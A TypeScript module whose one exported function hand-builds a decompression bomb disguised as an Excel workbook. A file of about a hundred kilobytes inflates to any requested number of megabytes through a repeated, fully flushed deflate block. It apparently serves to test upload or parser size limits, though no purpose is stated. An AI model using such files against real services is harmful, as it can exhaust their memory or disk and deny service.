import { constants, crc32, deflateRawSync } from 'node:zlib';

/** A workbook of some hundred kilobytes that unpacks to `megabytes`: one row, repeated. A full flush lets the packed block be repeated without packing it again. */
export function zipBomb(megabytes: number): Uint8Array {
  const row = Buffer.from(`<row>${'<c t="inlineStr"><is><t>AAAAAAAAAAAAAAAAAAAA</t></is></c>'.repeat(1_000)}</row>`);
  const block = Buffer.concat(Array.from({ length: Math.ceil(1_000_000 / row.length) }, () => row));
  const sheet = { head: '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>', tail: '</sheetData></worksheet>' };
  const plain = (text: string) => ({ content: Buffer.from(text), repeat: 1, head: '', tail: '' });
  const parts: [string, { content: Buffer; repeat: number; head: string; tail: string }][] = [
    ['[Content_Types].xml', plain('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')],
    ['_rels/.rels', plain('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')],
    ['xl/workbook.xml', plain('<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>')],
    ['xl/_rels/workbook.xml.rels', plain('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')],
    ['xl/worksheets/sheet1.xml', { content: block, repeat: Math.ceil((megabytes * 1_000_000) / block.length), ...sheet }],
  ];
  const files: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const [name, part] of parts) {
    const { data, size, checksum } = pack(part);
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt16LE(8, 4);
    fields.writeUInt32LE(checksum, 10);
    fields.writeUInt32LE(data.length, 14);
    fields.writeUInt32LE(size, 18);
    fields.writeUInt16LE(Buffer.byteLength(name), 22);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    files.push(Buffer.from('PK\x03\x04'), fields, Buffer.from(name), data);
    directory.push(Buffer.from('PK\x01\x02\x14\0'), fields, tail, Buffer.from(name));
    offset += 30 + Buffer.byteLength(name) + data.length;
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(parts.length, 4);
  end.writeUInt16LE(parts.length, 6);
  end.writeUInt32LE(list.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...files, list, Buffer.from('PK\x05\x06'), end]);
}

function pack(part: { content: Buffer; repeat: number; head: string; tail: string }): { data: Buffer; size: number; checksum: number } {
  const flushed = (bytes: string | Buffer): Buffer => deflateRawSync(bytes, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const block = flushed(part.content);
  let checksum = crc32(part.head);
  for (let i = 0; i < part.repeat; i++) checksum = crc32(part.content, checksum);
  checksum = crc32(part.tail, checksum);
  return { data: Buffer.concat([flushed(part.head), ...Array.from({ length: part.repeat }, () => block), deflateRawSync(part.tail)]), size: Buffer.byteLength(part.head) + part.content.length * part.repeat + Buffer.byteLength(part.tail), checksum };
}
